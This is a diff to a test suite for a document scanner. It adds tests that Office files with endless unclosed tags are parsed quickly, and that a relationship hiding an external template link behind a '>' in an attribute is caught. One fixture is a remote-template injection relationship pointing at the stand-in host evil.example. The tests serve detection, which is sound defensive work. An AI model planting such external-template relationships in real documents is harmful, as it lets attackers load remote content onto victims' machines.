@@ -93,3 +93,23 @@ test('a PDF full of packed streams is unpacked to a limit, however many there ar
   // 200 MB packed; what was unpacked stays below the limit of 32.
   expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(80e6);
 });
+
+test('tags that never end are read once: an Office file full of them is looked at in no time', async () => {
+  const unended = (tag: string) => Buffer.from(`<x>${`${tag} `.repeat(100_000)}`);
+  const started = performance.now();
+  await put(
+    'relations.docx',
+    docx('<w:document/>', ['word/_rels/settings.xml.rels', unended('<Relationship')]),
+  );
+  await put('fields.docx', docx(unended('<w:instrText').toString()));
+  expect(performance.now() - started).toBeLessThan(5_000);
+}, 20_000);
+
+test('an attribute with > hides no relation to elsewhere', async () => {
+  const rels = `<Relationships><Relationship Id="a>b" Type="http://x/attachedTemplate" Target="http://evil.example/a" TargetMode="External"/></Relationships>`;
+  const result = await put(
+    'hidden.docx',
+    docx('<w:document/>', ['word/_rels/settings.xml.rels', Buffer.from(rels)]),
+  );
+  expect(result.ok || result.error.message).toMatch(/外の/);
+});
